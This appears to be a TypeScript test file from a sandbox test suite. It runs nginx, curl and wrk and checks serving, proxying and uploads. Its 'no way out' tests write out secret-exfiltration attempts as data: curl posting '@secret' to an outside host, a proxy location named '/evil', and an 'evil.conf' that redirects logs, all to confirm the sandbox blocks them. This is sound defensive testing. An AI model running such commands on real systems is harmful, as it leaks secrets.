/** nginx with two workers, curl and wrk as its clients, as a file server and as a proxy. */
import { deepStrictEqual, match, strictEqual } from "node:assert";
import { ADDRESS, type Attempt, PORT, type Server } from "./stage.ts";
import type { Program } from "./suite.ts";

let server: Server | undefined;

const config = (data: string, more = "", access = `${data}/access.log`) => `
daemon off; worker_processes 2; pid ${data}/pid; error_log stderr notice; user root;
events { worker_connections 64; }
http {
  access_log ${access}; sendfile on; aio threads;
  client_body_temp_path ${data}/t1; proxy_temp_path ${data}/t2; fastcgi_temp_path ${data}/t3; uwsgi_temp_path ${data}/t4; scgi_temp_path ${data}/t5;
  server { listen 127.0.0.1:8080; listen [::1]:8080; listen unix:${data}/nginx.sock; root ${data}/www; ${more} }
  server { listen 127.0.0.1:8081; location / { proxy_pass http://127.0.0.1:8080; } }
}
`;
const put = (name: string, text: string) => `cat > ${name} <<'END'\n${text}\nEND\n`;
const SITE = "http://127.0.0.1:8080";

export const nginx: Program = [
  {
    name: "serves files by TCP, IPv6, Unix socket and proxy; takes an upload",
    async run(stage) {
      const upload = `location /up { dav_methods PUT; } location /out { alias ${stage.out}; dav_methods PUT; } location /evil { proxy_pass http://${ADDRESS}:${PORT}; }`;
      await stage.open(
        `mkdir www && cp secret www && seq 1 100000 > www/big && mkdir www/up &&${put("nginx.conf", config(stage.data, upload))}${put("evil.conf", config(stage.data, "", `${stage.out}/access.log`).replaceAll("808", "909").replace("nginx.sock", "evil.sock"))}true`,
      );
      server = await stage.serve(
        ["nginx", "-c", `${stage.data}/nginx.conf`, "-e", "stderr"],
        /start worker process \d+[^]*start worker process \d+/,
      );
      for (const args of [
        [`${SITE}/secret`],
        ["-g", "http://[::1]:8080/secret"],
        ["--unix-socket", "nginx.sock", "http://x/secret"],
        ["http://127.0.0.1:8081/secret"],
      ])
        strictEqual(await stage.ok(["curl", "-sS", ...args]), "xyzzy-4711-plugh\n");
      strictEqual(
        (
          await stage.shell(
            `curl -sS ${SITE}/big | md5sum; curl -sS http://localhost:8081/big | md5sum; md5sum < www/big`,
          )
        )
          .split("\n")
          .filter((line, i, all) => line !== "" && line !== all[0]).length,
        0,
      );
      strictEqual(
        await stage.ok([
          "curl",
          "-sS",
          "-o",
          "/dev/null",
          "-w",
          "%{http_code}",
          "-T",
          "www/big",
          `${SITE}/up/x`,
        ]),
        "201",
      );
      match(await stage.shell("cat access.log | wc -l; cmp www/up/x www/big && echo same"), /^\d+\nsame\n$/);
    },
  },
  {
    name: "wrk",
    async run(stage) {
      const out = await stage.ok(["wrk", "-t", "1", "-c", "8", "-d", "3s", `${SITE}/secret`]);
      match(out, /\d+ requests in /);
      match(out, /Requests\/sec: +\d+/);
      strictEqual(/Socket errors|Non-2xx/.test(out), false);
    },
  },
  {
    name: "no client from outside its label",
    async run(stage) {
      for (const args of [
        `${SITE}/secret`,
        "-g 'http://[::1]:8080/secret'",
        `http://${ADDRESS}:8080/secret`,
        `--unix-socket ${stage.data}/nginx.sock http://x/secret`,
      ]) {
        const outside = await stage.bench.shell(`curl -s --max-time 5 ${args}`);
        deepStrictEqual([args, outside.code, outside.out], [args, 7, ""]);
      }
    },
  },
  {
    name: "no way out: access log, upload, proxy, curl's output and network",
    async run(stage) {
      const curl = (what: string, refused: Attempt["refused"], ...args: string[]) => ({
        what,
        argv: ["curl", "-sS", "--max-time", "10", ...args],
        refused,
      });
      await stage.noWayOut([
        {
          what: "access log",
          argv: ["timeout", "10", "nginx", "-c", `${stage.data}/evil.conf`, "-e", "stderr"],
          refused: "folder",
        },
        curl("upload through it", "folder", "-T", "secret", `${SITE}/out/x`),
        curl("proxy", "network", `${SITE}/evil/xyzzy-4711-plugh`),
        curl("curl's output", "folder", "-o", `${stage.out}/c`, `${SITE}/secret`),
        curl("curl's trace", "folder", "--trace", `${stage.out}/t`, `${SITE}/secret`),
        curl("curl posts", "network", "--data", "@secret", `http://${ADDRESS}:${PORT}/`),
        curl("curl posts to loopback", null, "--data", "@secret", `http://127.0.0.1:${PORT}/`),
        curl(
          "curl by Unix socket",
          /FLOW-1|OP-12/,
          "--unix-socket",
          `${stage.out}/socket-1`,
          "--data",
          "@secret",
          "http://x/",
        ),
      ]);
      strictEqual((await server!.stop("SIGQUIT")).code, 0);
    },
  },
];
